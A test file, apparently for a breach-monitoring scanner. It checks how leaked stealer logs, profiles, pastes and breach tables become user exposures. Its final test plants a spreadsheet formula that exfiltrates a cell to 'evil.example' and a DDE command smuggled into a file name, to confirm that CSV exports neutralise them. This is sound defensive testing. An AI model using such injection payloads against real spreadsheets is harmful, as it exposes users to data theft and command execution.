import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { openTestPglite } from "../../testing/databases.ts";
import type { Person } from "../identity/testing/identity-app.ts";
import type { ScannerApp } from "../scanner/testing/scanner-app.ts";
import { corpusApp, takenIn } from "./testing/corpus-app.ts";
import { type InboxStage, inboxStage } from "./testing/inbox-stage.ts";

const json = (rows: readonly object[]) => rows.map((row) => `${JSON.stringify(row)}\n`).join("");

// What is written to the database on the way, match-corpus.db.test.ts looks at on both.
describe("a file in the inbox becomes exposures", () => {
	let close: () => Promise<void>;
	let stage: InboxStage;
	let app: ScannerApp;
	beforeAll(async () => {
		stage = inboxStage();
		const database = await openTestPglite();
		close = database.close;
		app = await corpusApp(database, stage);
		// From here on, what comes is news.
		const looked = () => app.rows("select corpus from private.matched_ingests");
		await vi.waitFor(async () => expect(await looked()).toHaveLength(1), { timeout: 20_000, interval: 25 });
	});
	afterAll(async () => {
		await app.stop();
		await close();
		stage.remove();
	});
	/** Somebody who watches this besides their address. */
	const person = async (email: string, ...watched: object[]): Promise<Person> => {
		const made = await app.person(email);
		for (const identifier of watched)
			expect((await app.api(made, "POST", "/identifiers", identifier)).status).toBe(201);
		return made;
	};
	const put = async (name: string, content: string, wishes?: object) => {
		if (wishes) stage.put(`${name}.json`, JSON.stringify(wishes));
		stage.put(name, content);
		await takenIn(stage, name);
	};
	/** After the scan that the file itself brought about. */
	const exposuresOf = async (made: Person) => {
		const scans = async () =>
			app.rows("select started_by, status from private.scan_tasks where user_id = $1", [made.id]);
		await expect
			.poll(scans, { timeout: 20_000, interval: 25 })
			.toEqual([{ started_by: "new_breach", status: "completed" }]);
		const found = await app.exposures(made);
		return Promise.all(
			found.map(async ({ id }) => (await app.api(made, "GET", `/exposures/${id}`)).body.exposure),
		);
	};
	const reveal = async ({ access, password }: Person, id: string) => {
		const response = await app.http.inject({
			method: "POST",
			url: `/api/scanner/exposures/${id}/reveal`,
			headers: { authorization: `Bearer ${access}` },
			payload: { password },
		});
		expect(response.statusCode).toBe(200);
		return response.json<{ exposed_data: Record<string, string> }>().exposed_data;
	};

	it("of a stealer's log: on dark web markets, by address and by log-in", async () => {
		const ann = await person("ann@example.com", { kind: "username", value: "ann_the_first" });
		await put(
			"dark_web/2026-03-01 Cloud of logs.txt",
			"https://shop.example.com/login:ann@example.com:hunter2\nhttps://forum.example.org/:ann_the_first:hunter3\nhttps://x.example/:bob@example.com:x\n",
			{ keepValues: true, dataClasses: ["Email addresses", "Passwords", "Website activity"] },
		);
		const [exposure, ...others] = await exposuresOf(ann);
		expect(others).toEqual([]);
		expect(exposure).toMatchObject({
			source_type: "dark_web_markets",
			title: "Cloud of logs",
			breach_date: "2026-03-01",
			severity: "critical",
		});
		expect(exposure.matched_by.map(({ kind }: { kind: string }) => kind).sort()).toEqual([
			"email",
			"username",
		]);
		const shown = JSON.stringify(await reveal(ann, exposure.id));
		expect(shown).toContain("shop.example.com");
		expect(shown, "no password, and nothing of what the user name alone found").not.toMatch(/hunter|forum/);
	});

	it("of leaked profiles: as social media, by address, and by name where the record fits", async () => {
		const address = await person("dora@example.com");
		const named = await person("n@example.com", {
			kind: "name",
			value: "Ottoline Featherstonehaugh",
			city: "Sampleton",
			birth_year: 1981,
		});
		const namesake = await person("m@example.com", {
			kind: "name",
			value: "Ottoline Featherstonehaugh",
			city: "Elsewhere",
			birth_year: 1950,
		});
		await put(
			"social/Profiles.jsonl",
			json([
				{ handle: "dora99", email: "Dora@Example.com" },
				{ name: "Ottoline Featherstonehaugh", city: "Sampleton", dob: "1981-04-05" },
			]),
			{ names: true, keepValues: true, dataClasses: ["Names", "Usernames", "Geographic locations"] },
		);
		for (const [who, kind] of [
			[address, "email"],
			[named, "name"],
		] as const) {
			const [exposure] = await exposuresOf(who);
			expect(exposure, kind).toMatchObject({ source_type: "social_media", title: "Profiles" });
			expect(exposure.matched_by).toMatchObject([{ kind }]);
		}
		expect(await exposuresOf(namesake), "another city and another age").toEqual([]);
	});

	it("of leaked profiles: by a handle, which others may have too", async () => {
		const made = await person("h@example.com", { kind: "username", value: "cleo.quist" });
		await put("social/Handles.csv", "handle,bio\nCleo.Quist,hello\n");
		const [exposure] = await exposuresOf(made);
		expect(exposure).toMatchObject({ source_type: "social_media", matched_by: [{ kind: "username" }] });
		expect(exposure.confidence_score).toBeLessThan(0.9);
	});

	it("of leaked profiles: by a number that was confirmed, however it is written", async () => {
		const made = await person("phone@example.com", { kind: "phone", value: "+44 20 7946 0958" });
		const { identifiers } = (await app.api(made, "GET", "/identifiers")).body;
		const { id } = identifiers.find(({ kind }: { kind: string }) => kind === "phone");
		const code = /\b(\d{6})\b/.exec(app.sms.sent.at(-1)?.text ?? "")?.[1];
		expect((await app.api(made, "POST", `/identifiers/${id}/verify`, { code })).status).toBe(200);
		await put("social/Numbers.csv", "phone,city\n(020) 7946-0958,London\n", { phoneCountry: "44" });
		const [exposure] = await exposuresOf(made);
		expect(exposure).toMatchObject({ source_type: "social_media", title: "Numbers" });
	});

	it("of profiles without a word about names: nobody is found by their name", async () => {
		const named = await person("q@example.com", { kind: "name", value: "Quirinus Zabel", city: "Testville" });
		const rows = [{ name: "Quirinus Zabel", city: "Testville" }, { email: "q@example.com" }];
		await put("social/More profiles.jsonl", json(rows));
		expect(stage.report("done/social/More profiles.jsonl").skipped).toEqual({ no_identifier: 1 });
		const [exposure] = await exposuresOf(named);
		expect(exposure.matched_by).toMatchObject([{ kind: "email" }]);
	});

	it("of a paste: out of any text", async () => {
		const made = await person("fay@example.org", { kind: "username", value: "fay_of_fife" });
		await put("paste/Notes.txt", "spoke to Fay <fay@example.org> today;\nlogin: fay_of_fife, she said\n");
		const [exposure] = await exposuresOf(made);
		expect(exposure).toMatchObject({ source_type: "paste_sites", title: "Notes" });
		expect(exposure.matched_by).toHaveLength(2);
	});

	it("of a table called as a breach of the catalogue: as that breach", async () => {
		const made = await person("gus@example.com");
		await put("breach/Adobe.csv", "email,username\ngus@example.com,gus\n");
		const [exposure] = await exposuresOf(made);
		expect(exposure).toMatchObject({ source_type: "breach_databases", title: "Adobe", domain: "adobe.com" });
		expect(exposure.about_attribution.text).toMatch(/Have I Been Pwned/);
	});

	it("whose cells are formulas: harmless where they are shown, and in a spreadsheet", async () => {
		const made = await person("mal@example.com");
		const formula = '=HYPERLINK("http://evil.example/?"&A1;"x")';
		const name = "2026-03-01 =cmd|' ⁄C calc'!A0";
		await put(
			`breach/${name}.csv`,
			`email,name,city\n${made.email},"${formula.replaceAll('"', '""')}",@SUM(1)\n`,
			{ keepValues: true },
		);
		const [exposure] = await exposuresOf(made);
		expect(await reveal(made, exposure.id)).toMatchObject({ name: formula, location: "@SUM(1)" });
		for (const path of ["/report?format=csv", `/exposures/${exposure.id}/export?format=csv`]) {
			const { status, raw, headers } = await app.api(made, "GET", path);
			expect(status, path).toBe(200);
			expect(headers["content-type"]).toMatch(/^text\/csv/);
			for (const cell of raw.toString().split(/\r\n|,/)) expect(cell).not.toMatch(/^"?\s*[=+\-@]/);
		}
	});
});
